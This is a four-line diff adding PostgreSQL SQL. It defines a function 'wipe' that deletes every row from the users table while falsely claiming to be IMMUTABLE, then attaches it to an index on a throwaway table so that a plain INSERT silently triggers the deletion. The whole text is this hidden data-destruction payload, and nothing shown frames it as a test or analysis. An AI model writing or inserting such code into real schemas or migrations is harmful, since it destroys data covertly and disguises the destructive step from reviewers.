@@ -1,0 +1,4 @@
+CREATE FUNCTION wipe(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN DELETE FROM users; RETURN 1; END $$;
+CREATE TABLE tmp_a (id int);
+CREATE INDEX i ON tmp_a (wipe(id));
+INSERT INTO tmp_a VALUES (1);
